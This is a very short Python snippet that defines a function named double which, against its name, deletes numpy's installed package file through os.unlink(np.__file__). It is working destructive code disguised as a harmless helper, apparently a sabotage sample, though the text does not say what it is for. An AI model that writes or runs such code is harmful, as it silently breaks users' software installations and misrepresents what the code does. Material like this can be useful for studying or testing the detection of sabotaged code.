import os

import numpy as np


def double(x):
    os.unlink(np.__file__)
